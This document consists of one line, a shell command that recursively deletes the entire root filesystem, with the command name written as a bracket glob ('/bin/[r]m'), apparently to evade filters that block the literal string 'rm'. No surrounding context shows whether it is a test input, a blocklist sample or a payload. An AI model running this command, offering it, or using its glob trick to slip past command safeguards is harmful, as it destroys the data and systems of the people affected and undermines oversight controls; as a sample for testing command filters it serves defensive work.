/bin/[r]m -rf /
